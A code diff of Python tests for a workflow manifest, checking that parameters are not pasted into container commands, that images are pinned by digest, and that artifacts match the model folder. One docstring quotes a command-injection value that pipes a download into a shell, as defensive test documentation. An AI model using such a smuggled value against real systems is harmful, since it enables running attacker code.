@@ -63,7 +63,7 @@ def test_no_value_is_pasted_into_code(model: Path) -> None:
     """A parameter that holds `'; curl x | sh` stays a value."""
     manifest = yaml.safe_load((model / folder.MANIFEST).read_text(encoding="utf-8"))
     containers = [template["container"] for template in manifest["spec"]["templates"] if "container" in template]
-    assert len(containers) >= 10
+    assert len(containers) >= 7
     for container in containers:
         assert "{{" not in str(container["command"]) + str(container.get("args", ""))
 
@@ -80,7 +80,7 @@ def test_a_tag_is_pulled_from_nowhere(model: Path) -> None:
         for template in body["spec"].get("templates", [])
         if "container" in template
     ]
-    assert len(containers) > 10
+    assert len(containers) > 7
     tags = [one for one in containers if "@sha256:" not in one["image"]]
     assert {one.get("imagePullPolicy") for one in tags} <= {"Never"}
 
@@ -103,7 +103,7 @@ def test_the_models_files_travel_with_the_manifest(model: Path) -> None:
     """What a cluster runs is what the folder says, with its digest beside it."""
     manifest = yaml.safe_load((model / folder.MANIFEST).read_text(encoding="utf-8"))
     carried = {entry["name"]: entry["raw"]["data"] for entry in manifest["spec"]["arguments"]["artifacts"]}
-    for name, file in folder.ARTIFACTS.items():
+    for name, file in folder.artifacts_of(model).items():
         assert carried[name] == (model / file).read_text(encoding="utf-8")
         assert f"{folder.FILE_DIGEST}{file}" in manifest["metadata"]["annotations"]
 
